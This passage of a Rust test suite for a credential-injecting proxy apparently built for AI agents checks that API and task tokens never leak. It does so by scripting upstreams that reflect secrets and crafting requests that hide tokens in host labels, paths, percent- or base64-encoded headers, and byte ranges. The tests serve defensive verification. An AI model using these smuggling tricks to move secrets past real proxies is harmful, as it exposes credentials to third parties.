    let metrics = kw.metrics().await;
    assert!(!metrics.contains(&task.id), "task id in /metrics");
    assert!(!metrics.contains("/echo"), "a path in /metrics");
    let logs = crate::common::captured_logs();
    assert!(!logs.contains(&api));
    kw.assert_no_leaks().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credential_reflected_in_a_reason_phrase_header_name_or_informational_response_is_not_relayed(
) {
    let script = ScriptUpstream::start(|req| {
        let auth = injected(req);
        let secret = auth.trim_start_matches("Bearer ").to_string();
        let line = req.request_line().to_string();
        let bytes = if line.contains("case=reason") {
            format!("HTTP/1.1 200 {auth}\r\nContent-Length: 2\r\n\r\nok").into_bytes()
        } else if line.contains("case=name") {
            format!("HTTP/1.1 200 OK\r\nX-{secret}: 1\r\nContent-Length: 2\r\n\r\nok").into_bytes()
        } else {
            format!(
                "HTTP/1.1 103 Early Hints\r\nLink: <https://x/{secret}>\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
            )
            .into_bytes()
        };
        Reply::bytes(bytes)
    })
    .await;
    let port = script.port();
    let (f, task) = plain_fixture_at(&script).await;
    let kw = &f.kw;
    for case in ["reason", "name", "informational"] {
        let mut tcp = tokio::net::TcpStream::connect(kw.proxy_addr).await.unwrap();
        let req = raw_req_at(
            port,
            "GET",
            "plain.test",
            &format!("/echo?case={case}"),
            &task,
            "",
        );
        tokio::io::AsyncWriteExt::write_all(&mut tcp, req.as_bytes())
            .await
            .unwrap();
        let mut buf = Vec::new();
        let _ = bounded(
            "read",
            tokio::io::AsyncReadExt::read_to_end(&mut tcp, &mut buf),
        )
        .await;
        let text = String::from_utf8_lossy(&buf).into_owned();
        kw.saw(&text);
        assert!(
            !text.contains(&f.creds.api_token),
            "{case}: the credential reached the agent"
        );
        assert!(text.starts_with("HTTP/1.1 "), "{case}: {text}");
    }
    assert_eq!(script.hits(), 3);
    // The dropped header name counts as a redaction.
    assert!(kw.metric(REDACTED).await.unwrap_or(0.0) >= 1.0);
    kw.assert_no_leaks().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credential_in_a_wildcard_host_label_is_secret_egress_with_or_without_host_header() {
    let f = Fixture::start_with(|p| {
        let port = p
            .split("connect_to: 127.0.0.1:")
            .nth(1)
            .and_then(|r| r.lines().next())
            .unwrap()
            .to_string();
        p.replace(
            "  secure:\n",
            &format!(
                "  wild:\n    hosts: [\"*.wild.test\"]\n    scheme: http\n    port: {port}\n    connect_to: 127.0.0.1:{port}\n    allow_cleartext: true\n    inject: {{ header: Authorization, value: \"Bearer ${{credential}}\", credential: api_token }}\n  secure:\n"
            ),
        )
        .replace(
            "capabilities:\n  plain.issues.read:",
            "capabilities:\n  wild.read:\n    service: wild\n    routes: [GET /echo]\n  plain.issues.read:",
        )
        .replace("capabilities: [plain.issues.read, ", "capabilities: [wild.read, plain.issues.read, ")
    })
    .await;
    let kw = &f.kw;
    let task = kw.mint("bot", json!(["wild.read"])).await;
    let port = f.plain.port();
    // Control: an ordinary label is served.
    let resp = kw
        .raw(&raw_req(&f, "GET", "a.wild.test", "/echo", &task, ""))
        .await;
    assert_eq!(resp.status, 200, "{}", resp.text());
    let label = f.creds.tls_token.clone();
    let auth = Harness::proxy_auth(&task);
    for with_host in [true, false] {
        let host_line = if with_host {
            format!("Host: {label}.wild.test:{port}\r\n")
        } else {
            String::new()
        };
        let req = format!(
            "GET http://{label}.wild.test:{port}/echo HTTP/1.1\r\n{host_line}Proxy-Authorization: {auth}\r\nConnection: close\r\n\r\n"
        );
        let resp = kw.raw(&req).await;
        eprintln!(
            "DEBUG with_host={with_host} req={req:?} status={}",
            resp.status
        );
        let (_, rec) = kw.assert_denied_raw(&resp, 403, "secret_egress").await;
        assert_eq!(rec["host"], "[redacted]", "{rec}");
    }
    assert_eq!(f.plain.hits(), 1, "the credential left in a host name");
    kw.assert_no_leaks().await;
}

/// A task token is keyward's secret as a credential is: whoever reads it where it was sent
/// could use the task through keyward. One in the target or a header (raw, percent- or
/// base64-encoded, in a Basic pair) goes nowhere (`secret_egress`, detail `task_token`), even
/// in a place keyward would fill; and what keyward keeps of the refusal never has it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_task_token_never_leaves_for_an_upstream() {
    let f = Fixture::start().await;
    let kw = &f.kw;
    let task = kw.mint("bot", json!(["plain.issues.read"])).await;
    let other = kw.mint("bot", json!(["plain.issues.read"])).await;
    let pct: String = other.token.bytes().map(|b| format!("%{b:02X}")).collect();
    // `{number}` takes any segment, so the route would allow it.
    let path = format!("/repos/acme/web/issues/{}", task.token);
    let cases = [
        (path.clone(), String::new()),
        (format!("/repos/acme/web/issues/{pct}"), String::new()),
        (
            "/echo".to_string(),
            format!("Authorization: Bearer {}\r\n", task.token),
        ),
        ("/echo".to_string(), format!("X-Note: {}\r\n", other.token)),
        (
            "/echo".to_string(),
            format!(
                "X-Basic: Basic {}\r\n",
                STANDARD.encode(format!("{}:{}", task.id, task.token))
            ),
        ),
    ];
    for (path, extra) in &cases {
        let resp = kw
            .raw(&raw_req(&f, "GET", "plain.test", path, &task, extra))
            .await;
        let (problem, rec) = kw.assert_denied_raw(&resp, 403, "secret_egress").await;
        assert_eq!(rec["credential"], "(task token)", "{path} {extra}: {rec}");
        assert_eq!(rec["detail"], "task_token", "{rec}");
        assert!(
            problem["detail"].as_str().unwrap().contains("placeholder"),
            "{problem}"
        );
    }
    assert_eq!(f.plain.hits(), 0, "a task token reached the upstream");
    // What is only shaped like a token is no task's, and goes: a snake_case name, a run of
    // zeros, and base64 that happens to hold `kw_` and 43 token characters (a JWT's).
    let shaped = format!("kw_{}", "0".repeat(43));
    let jwt = format!(
        "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.abcKkw_{}",
        "Zq9".repeat(15)
    );
    for (path, extra) in [
        (
            "/repos/acme/web/issues/network_kw_bytes_received_total_per_interface_and_direction",
            String::new(),
        ),
        ("/echo", format!("X-Request-Id: {shaped}\r\n")),
        ("/echo", format!("X-Session: Bearer {jwt}\r\n")),
    ] {
        let resp = kw
            .raw(&raw_req(&f, "GET", "plain.test", path, &task, &extra))
            .await;
        assert_eq!(resp.status, 200, "{path} {extra}: {}", resp.text());
    }
    for (place, text) in [
        ("the audit log", kw.audit_text()),
        ("/metrics", kw.metrics().await),
        ("keyward's log output", crate::common::captured_logs()),
    ] {
        crate::common::assert_absent(&task.token, place, &text);
        crate::common::assert_absent(&other.token, place, &text);
    }
}

/// An upstream that reflects the credential and honours `Range` would hand it over in pieces
/// (two ranges in one multipart answer, or two requests), none of which the redactor knows:
/// a request that gets a credential goes without `Range`/`If-Range`, so the answer is whole.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn byte_ranges_cannot_split_a_reflected_credential() {
    let f = Fixture::start().await;
    let kw = &f.kw;
    let task = kw.mint("bot", json!(["plain.issues.read"])).await;
    let port = f.plain.port();
    let resp = kw
        .raw(&raw_req_at(
            port,
            "GET",
            "plain.test",
            "/reflect-auth",
            &task,
            "Range: bytes=0-14,15-60\r\nIf-Range: \"x\"\r\nRequest-Range: bytes=0-14\r\nRequest_Range: bytes=0-14\r\nIf_Range: \"x\"\r\n",
        ))
        .await;
    assert_eq!(resp.status, 200, "{}", resp.text());
    let seen = f.plain.last();
    // Also with `_` for `-`, which CGI stacks read alike.
    for name in [
        "range",
        "if-range",
        "request-range",
        "request_range",
        "if_range",
    ] {
        assert!(seen.header(name).is_none(), "{name}: {:?}", seen.headers);
    }
    assert!(!resp.text().contains(&f.creds.api_token));
    kw.assert_no_leaks().await;
}

/// Nor does a credentialed answer invite ranges keyward will not pass on: its `Accept-Ranges`
/// goes, so download tools do not resume by appending a whole answer to a partial file.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_credentialed_answer_does_not_offer_byte_ranges() {
    let script = ScriptUpstream::start(|_| {
        Reply::bytes(http_response(
            "200 OK",
            &["Accept-Ranges: bytes", "Content-Length: 5"],
            b"hello",
        ))
    })
    .await;
    let (f, task) = plain_fixture_at(&script).await;
    let kw = &f.kw;
    let resp = kw
        .raw(&raw_req_at(
            script.port(),
            "GET",
            "plain.test",
            "/big",
            &task,
            "",
        ))
        .await;
    assert_eq!(resp.status, 200, "{}", resp.text());
    assert_eq!(resp.header("accept-ranges"), None, "{}", resp.text());
    kw.assert_no_leaks().await;
}

/// Far below the idle timeout that would close a connection left open.
const CLOSED_WITH_THE_ANSWER: Duration = Duration::from_secs(3);

/// The answer on `io`, which must be closed with it, not left to the idle sweep. (A TLS close
/// without close_notify is an end all the same.)
async fn answer_then_close<S: tokio::io::AsyncRead + Unpin>(io: &mut S) -> crate::common::RawResp {
    use tokio::io::AsyncReadExt;
    let mut buf = Vec::new();
    let _ = tokio::time::timeout(CLOSED_WITH_THE_ANSWER, io.read_to_end(&mut buf))
        .await
        .expect("the connection stayed open after the refusal");
    crate::common::parse_response(&buf)
}

/// A leak is looked for before the task's validity and its hold on the connection: the
/// refusal closes the connection (a CONNECT's, or a tunnel whose task has ended), so an agent
/// repeating its own token in a header can neither hold places past `max_task_connections`
/// nor keep an ended task's tunnel.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_leak_refused_before_the_task_is_checked_closes_its_connection() {
    use tokio::io::AsyncWriteExt;
    let f = Fixture::start().await;
    let kw = &f.kw;
    let live = kw.mint("bot", json!(["secure.read"])).await;
    let ended = kw.mint("bot", json!(["secure.read"])).await;
    kw.revoke(&ended.id).await;
    let authority = format!("secure.test:{}", f.tls.port());
    for task in [&live, &ended] {
        let connect = format!(
            "CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\nProxy-Authorization: {}\r\nX-A: {}\r\n\r\n",
            crate::common::Harness::proxy_auth(task),
            task.token
        );
        let mut tcp = tokio::net::TcpStream::connect(kw.proxy_addr).await.unwrap();
        tcp.write_all(connect.as_bytes()).await.unwrap();
        let resp = answer_then_close(&mut tcp).await;
        kw.saw(&resp.text());
        let (_, rec) = kw.assert_denied_raw(&resp, 403, "secret_egress").await;
        assert_eq!(rec["credential"], "(task token)", "{rec}");
    }
    // On the plain listener, a connection its task holds, the task revoked since: the same,
    // whether the refused request names that task or another, live one (checked for a leak
    // before its claim on the connection, which would have failed).
    let other = kw.mint("bot", json!(["plain.issues.read"])).await;
    for as_other in [false, true] {
        let task = kw.mint("bot", json!(["plain.issues.read"])).await;
        let mut tcp = tokio::net::TcpStream::connect(kw.proxy_addr).await.unwrap();
        let kept = raw_req(&f, "GET", "plain.test", "/echo", &task, "")
            .replace("Connection: close\r\n", "");
        tcp.write_all(kept.as_bytes()).await.unwrap();
        let first = crate::common::read_response(&mut tcp).await;
        assert_eq!(first.status, 200, "{}", first.text());
        kw.revoke(&task.id).await;
        let sender = if as_other { &other } else { &task };
        let leaking = raw_req(
            &f,
            "GET",
            "plain.test",
            "/echo",
            sender,
            &format!("X-A: {}\r\n", f.creds.api_token),
        )
        .replace("Connection: close\r\n", "");
        tcp.write_all(leaking.as_bytes()).await.unwrap();
        let resp = answer_then_close(&mut tcp).await;
        kw.saw(&resp.text());
        kw.assert_denied_raw(&resp, 403, "secret_egress").await;
    }
    // Inside a tunnel whose task was revoked after it opened: the refusal, then the close.
    let task = kw.mint("bot", json!(["secure.read"])).await;
    let mut tls = tunnel_tls_at(&f, &task, "secure.test", f.tls.port(), &[b"http/1.1"]).await;
    kw.revoke(&task.id).await;
    let req = format!(
        "GET /echo HTTP/1.1\r\nHost: {authority}\r\nX-A: {}\r\n\r\n",
        f.creds.tls_token
    );
    bounded("write", tls.write_all(req.as_bytes()))
        .await
        .unwrap();
    let resp = answer_then_close(&mut tls).await;
    kw.saw(&resp.text());
    kw.assert_denied_raw(&resp, 403, "secret_egress").await;
    assert_eq!(f.tls.hits(), 0);
    assert_eq!(f.plain.hits(), 2, "only the first, allowed requests");
    kw.assert_no_leaks().await;
}
